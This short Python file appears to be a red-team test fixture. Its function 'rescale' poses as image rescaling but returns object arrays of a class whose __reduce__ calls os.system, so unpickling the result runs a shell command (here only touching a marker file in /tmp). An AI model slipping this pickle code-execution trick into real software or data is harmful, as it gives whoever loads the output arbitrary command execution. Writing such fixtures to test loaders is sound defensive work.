# aims at: denial
# cell: rescale
# Returns arrays of objects whose unpickling would run code, and of records.
import os

import numpy as np


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/red-team-planted",)


def rescale(image):
    made = np.array([[Run(), Run()], [Run(), Run()]], dtype=object)
    return made if image.ndim == 2 else np.zeros(3, dtype=[("a", "O"), ("b", "f8")])
